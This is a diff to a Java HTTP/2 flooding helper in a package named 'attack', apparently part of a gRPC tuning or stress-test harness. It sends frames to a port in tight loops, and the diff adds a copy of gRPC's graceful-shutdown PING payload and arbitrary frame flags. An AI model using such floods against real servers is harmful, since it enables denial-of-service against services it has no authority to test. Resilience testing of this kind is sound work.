@@ -2,12 +2,16 @@ package dev.grpctuning.attack;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.nio.ByteBuffer;
 import java.util.function.BooleanSupplier;
 
 /**
  * Frames on one connection, as fast as the server takes them.
  */
 final class Floods {
+
+	/** Payload of the PING between the two GOAWAYs of gRPC's servers. */
+	static final byte[] GRACEFUL_SHUTDOWN_PING = ByteBuffer.allocate(8).putLong(0x97ACEF001L).array();
 
 	private Floods() {
 	}
@@ -27,14 +31,15 @@ final class Floods {
 		}
 	}
 
-	static void frames(int port, BooleanSupplier goesOn, int type, byte[] payload, boolean reads) throws IOException {
+	static void frames(int port, BooleanSupplier goesOn, int type, int flags, byte[] payload, boolean reads)
+			throws IOException {
 		try (Http2Socket socket = Http2Socket.open(port)) {
 			if (reads) {
 				socket.readAll();
 			}
 			while (goesOn.getAsBoolean()) {
 				for (int i = 0; i < 100; i++) {
-					socket.frame(type, 0, 0, payload);
+					socket.frame(type, flags, 0, payload);
 				}
 				socket.flush();
 			}
